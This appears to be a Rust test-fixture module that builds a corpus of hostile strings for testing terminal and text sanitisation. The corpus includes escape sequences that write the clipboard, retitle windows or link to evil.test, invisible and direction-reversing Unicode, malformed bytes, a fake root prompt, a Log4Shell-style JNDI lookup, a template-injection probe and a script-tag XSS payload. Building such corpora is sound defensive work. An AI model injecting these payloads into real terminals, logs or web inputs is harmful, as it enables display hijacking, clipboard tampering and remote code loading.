//! Strings that a backend, a file or a person could send to make a terminal or a reader do something.

/// What a terminal acts on, each of it in the middle of harmless words.
const SEQUENCES: [&str; 62] = [
    // CSI: clear, move, scroll, colours, modes, reports.
    "\x1b[2J",
    "\x1b[3J",
    "\x1b[H",
    "\x1b[1;1H",
    "\x1b[99A",
    "\x1b[99B",
    "\x1b[99D",
    "\x1b[2K",
    "\x1b[5L",
    "\x1b[9M",
    "\x1b[31m",
    "\x1b[7m",
    "\x1b[8m",
    "\x1b[38;2;1;2;3m",
    "\x1b[?25l",
    "\x1b[?1049l",
    "\x1b[?1049h",
    "\x1b[?47h",
    "\x1b[?1000h",
    "\x1b[?1003h",
    "\x1b[?2004l",
    "\x1b[?5h",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[>c",
    "\x1b[18t",
    "\x1b[21t",
    "\x1b[22;2t",
    "\x1b[3;5r",
    "\x1b[999999999999C",
    "\x1b[;;;;;;;;;;;;;;;;m",
    "\x1b[!p",
    "\x1b[1;2",
    "\x1b[",
    // OSC: title, palette, notification, link, clipboard, its reading, unfinished.
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b]4;1;rgb:00/00/00\x07",
    "\x1b]9;owned\x07",
    "\x1b]777;notify;owned;you\x07",
    "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b]52;c;?\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]50;font\x07",
    "\x1b]10;?\x07",
    "\x1b]",
    // DCS, APC, PM, SOS: sixel, terminfo, tmux, kitty's pictures, unfinished.
    "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1bPtmux;\x1b\x1b]52;c;b3duZWQ=\x07\x1b\\",
    "\x1bP$qm\x1b\\",
    "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bXstring\x1b\\",
    "\x1bP",
    // Single escapes: reset, character sets, keypad, save and restore, a lone escape at the end.
    "\x1bc",
    "\x1b(0",
    "\x1b)B",
    "\x1b7",
    "\x1b8",
    "\x1bD",
    "\x1bM",
    "\x1b",
];

/// What hides, joins or turns around text.
const UNSEEN: [u32; 40] = [
    0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a,
    0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x3164,
    0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe01ef,
];

/// What is strange without being a sequence.
const STRANGE: [&str; 22] = [
    "\r",
    "\r\nroot#",
    "\n\n\n",
    "\t\t\t",
    "\u{8}\u{8}\u{8}ok",
    "a\u{7}a",
    "a\u{0}b",
    "\u{7f}\u{7f}",
    "\u{5d0}\u{5d1}\u{5d2} 100%",
    "\u{645}\u{631}\u{62d}\u{628}\u{627}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{1f1e9}\u{1f1ea}",
    "\u{ff26}\u{ff49}\u{ff52}\u{ff45}",
    "\u{fffd}\u{fffd}",
    "\\u{1b}[2J",
    "\\x1b[2J",
    "^[[2J",
    "%1b%5b2J",
    "${jndi:ldap://evil.test}",
    "{{ 7 * 7 }}",
    "<script>alert(1)</script>",
    "| a | `b` | [c](d) ![e](f)",
];

/// More than two hundred, none twice.
pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = SEQUENCES.iter().map(|sequence| format!("ok{sequence}ok")).collect();
    // Every control character, C0, DEL and C1: U+009B alone begins a sequence on some terminals.
    all.extend((0..0x20_u8).chain(0x7f..0xa0).map(|control| format!("ok{}31mok", char::from(control))));
    let unseen = UNSEEN.into_iter().filter_map(char::from_u32);
    all.extend(unseen.map(|unseen| format!("ok{unseen}lve{unseen}{unseen}")));
    all.extend(STRANGE.into_iter().map(str::to_owned));
    all.extend(bytes().iter().map(|bytes| String::from_utf8_lossy(bytes).into_owned()));
    // Floods.
    all.push(format!("Z{}", "\u{301}\u{489}".repeat(2_000)));
    all.push("\u{202e}".repeat(10_000));
    all.push("\x1b[2J".repeat(10_000));
    all.push("x".repeat(100_000));
    all.push("\u{1f600}".repeat(5_000));
    all.sort();
    all.dedup();
    assert!(all.len() >= 200, "{}", all.len());
    all
}

/// What is no text: C1 as single bytes, surrogates, overlong and cut sequences.
pub fn bytes() -> Vec<Vec<u8>> {
    let c1 = (0x80..=0x9f_u8).step_by(3).map(|byte| [b"ok", &[byte][..], b"31mok"].concat());
    let broken: [&[u8]; 6] = [
        b"\xed\xa0\x80\xed\xb0\x80",
        b"\xc0\x9b2J",
        b"\xe0\x80\x9b2J",
        b"\xf0\x9f\x98",
        b"\xff\xfe\x1b\x00[\x002\x00J\x00",
        b"\x1b\xc2",
    ];
    c1.chain(broken.map(<[u8]>::to_vec)).collect()
}
